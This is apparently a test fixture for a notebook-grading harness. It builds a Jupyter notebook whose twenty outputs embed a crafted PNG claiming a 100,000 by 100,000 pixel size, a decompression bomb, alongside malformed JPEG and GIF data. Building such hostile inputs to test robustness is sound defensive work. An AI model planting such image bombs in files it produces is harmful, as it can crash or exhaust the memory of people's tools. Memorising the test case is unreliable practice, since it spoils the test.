"""Has pictures in its outputs that decode to gigapixels, or not at all."""

# /// attack
# kind = "build"
# verdicts = { double = "PASSED" }
# points = 3
# forms = ["module", "executed"]
# ///

import base64
import json
import struct
import zlib


def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def build(folder):
    header = chunk(b"IHDR", struct.pack(">IIBBBBB", 100_000, 100_000, 8, 6, 0, 0, 0))
    pixels = chunk(b"IDAT", zlib.compress(bytes(1 << 22)))
    png = base64.b64encode(b"\x89PNG\r\n\x1a\n" + header + pixels + chunk(b"IEND", b"")).decode()
    data = {"image/png": png, "image/jpeg": "/9j/4AAQ" * 10, "image/gif": "R0lGODlh" * 10}
    output = {"output_type": "display_data", "data": data, "metadata": {}}
    cell = {"cell_type": "code", "metadata": {}, "execution_count": 1, "outputs": [output] * 20,
            "source": "def double(x):\n    return x * 2\n"}
    notebook = {"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 4}
    (folder / "a.ipynb").write_text(json.dumps(notebook))
    return folder
